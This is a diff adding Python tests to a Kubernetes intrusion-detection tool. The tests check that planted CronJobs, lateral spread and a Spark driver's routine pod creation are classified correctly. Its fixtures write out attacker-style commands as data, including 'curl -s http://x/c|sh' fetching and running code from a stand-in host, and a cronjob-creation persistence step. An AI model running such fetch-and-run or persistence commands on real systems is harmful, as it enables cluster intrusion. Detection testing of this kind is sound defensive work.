@@ -575,3 +575,94 @@ def test_a_tool_delivered_then_run_whose_child_connects_out_keys_on_the_child_no
     (i,) = find_in(**frames(procs, flows, kp)).incidents
     assert i.key_command is not None and i.key_command.exec_id == "nc"
     assert i.entry is not None and i.entry.exec_id == "tar"
+
+
+A = {"exec_id": pl.String, "linked_exec_id": pl.String, "link": pl.String, "time_ns": pl.Int64,
+     "event_id": pl.String, "verb": pl.String, "resource": pl.String, "subresource": pl.String,
+     "namespace": pl.String, "name": pl.String, "created_name": pl.String, "target_pod": pl.String,
+     "user": pl.String, "code": pl.Int64, "src_namespace": pl.String}
+
+
+def _api(rows):
+    return pl.DataFrame([{**dict.fromkeys(A), **r} for r in rows], schema=A)
+
+
+def test_a_cronjob_created_through_the_api_is_an_act_that_reaches_the_pod_it_runs_later():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
+             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
+             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
+             # minutes later the CronJob's Job makes a pod; its entrypoint fetches from outside
+             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
+                  node="n2", workload="rec"),
+             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
+                  ns="b", node="n2", init=False, workload="rec")]
+    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
+    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
+                 "resource": "cronjobs", "namespace": "b", "name": "rec", "created_name": "rec", "code": 201,
+                 "user": "system:serviceaccount:a:app", "src_namespace": "a"}])
+    f = find_in(**frames(procs, flows), api=api)
+    (i,) = f.incidents
+    assert i.pod == "app-1" and i.key_command.exec_id == "k"
+    assert [(r.pod, r.how) for r in i.reached] == [("rec-28640115-dx7q2", ["controller"])]
+    assert "T1053.007" in i.techniques
+    assert [e.ip for e in i.endpoints] == ["203.0.113.50"]
+
+
+def test_a_drivers_repeated_creates_of_its_executors_are_routine_not_an_incident():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("later", "runtime", None, "/usr/bin/runc", t=1800 * S),  # the capture goes on
+             proc("drv", None, "agg-driver", "/usr/bin/java", "-cp x Submit", -100 * S, ns="d", seen="event",
+                  workload="agg-driver")]
+    api_rows, flows, hits = [], [], []
+    for n in range(1, 5):
+        pod = f"agg-3f9a2c-exec-{n}"
+        procs.append(proc(f"ex{n}", "runtime", pod, "/usr/bin/java", "-cp x Executor", 100 * S + n * S, ns="d",
+                          node="n2", workload="agg-exec"))
+        flows.append(flow(f"m{n}", 103 * S + n * S, f"ex{n}", ("d", pod), None, 443, dst_ip="203.0.113.60"))
+        api_rows.append({"exec_id": "drv", "linked_exec_id": f"ex{n}", "link": "created-pod",
+                         "time_ns": 99 * S + n * S, "event_id": f"a{n}", "verb": "create", "resource": "pods",
+                         "namespace": "d", "created_name": pod, "target_pod": pod, "src_namespace": "d",
+                         "user": "system:serviceaccount:d:spark", "code": 201})
+        hits.append({"rule_id": "pod-create", "title": "Pod created through the Kubernetes API by a workload",
+                     "level": "medium", "techniques": ["T1610"], "exec_id": "drv", "event_id": f"a{n}",
+                     "namespace": "d", "pod": "agg-driver", "workload": "agg-driver", "time_ns": 99 * S + n * S})
+    hits.append({"rule_id": "other", "title": "something else", "level": "low", "exec_id": "later",
+                 "time_ns": 1800 * S})  # detections span the capture
+    f = find_in(**frames(procs, flows, hits=_hits(hits)), api=_api(api_rows))
+    assert f.incidents == []
+
+
+def test_a_pod_that_reaches_the_incidents_outside_address_later_joins_it():
+    fr = _lateral()
+    later = pl.DataFrame([proc("rt", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+                          proc("odd", "rt", "report-7", "/bin/sh", "-c sync", 600 * S, ns="c", workload="report")],
+                         schema=P)
+    back = pl.DataFrame([flow("f9", 600 * S + 5 * MS, "odd", ("c", "report-7"), None, 4444, dst_ip="203.0.113.50")],
+                        schema=F)
+    fr = {**fr, "procs": pl.concat([fr["procs"], later]), "flows": pl.concat([fr["flows"], back])}
+    (i,) = find_in(**fr).incidents
+    reached = {r.pod: r.how for r in i.reached}
+    assert reached["report-7"] == ["shared_endpoint"] and "sched-0" in reached
+
+
+def test_the_pod_of_a_job_an_intruder_planted_through_the_api_is_not_routine_for_being_a_jobs():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
+             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
+             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
+             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
+                  node="n2", workload="rec"),
+             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
+                  ns="b", node="n2", workload="rec", exit_ns=401 * S)]
+    labels = pl.List(pl.Struct({"key": pl.String, "value": pl.String}))
+    job = [{"key": "job-name", "value": "rec-28640115"}]
+    p = pl.DataFrame(procs, schema=P).with_columns(
+        pl.Series("pod_labels", [job if x["pod"] and x["pod"].startswith("rec-") else None for x in procs],
+                  dtype=labels))
+    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
+    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
+                 "resource": "cronjobs", "namespace": "b", "name": "rec", "code": 201, "src_namespace": "a"}])
+    (i,) = find_in(**{**frames(procs, flows), "procs": p}, api=api).incidents
+    (r,) = i.reached
+    assert r.pod == "rec-28640115-dx7q2" and set(r.exec_ids) == {"jsh", "jcurl"}
